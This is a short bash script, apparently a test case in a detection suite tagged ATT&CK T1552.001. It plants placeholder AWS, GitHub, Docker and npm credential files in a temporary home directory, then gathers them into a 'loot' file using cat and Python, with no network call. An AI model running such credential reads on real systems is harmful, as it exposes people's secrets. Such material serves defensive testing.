#!/usr/bin/env bash
# attack: T1552.001 Read cloud and developer tokens from a home (aws, gh, docker, npm) with cat and python
# set: unseen
. "$(dirname "$0")/lib/common.sh"
mkhome
mkdir -p "$HOME/.aws" "$HOME/.config/gh" "$HOME/.docker"
printf '[default]\naws_access_key_id = AKIAEXAMPLE\n' >"$HOME/.aws/credentials"
printf 'github.com:\n  oauth_token: gho_example\n' >"$HOME/.config/gh/hosts.yml"
printf '{"auths":{}}\n' >"$HOME/.docker/config.json"
printf '//registry.npmjs.org/:_authToken=npm_example\n' >"$HOME/.npmrc"
cat "$HOME/.aws/credentials" "$HOME/.config/gh/hosts.yml" >"$SW/loot"
python3 - "$HOME" <<'PY' >>"$SW/loot"
import sys
for p in ("/.docker/config.json", "/.npmrc"):
    print(open(sys.argv[1] + p).read())
PY
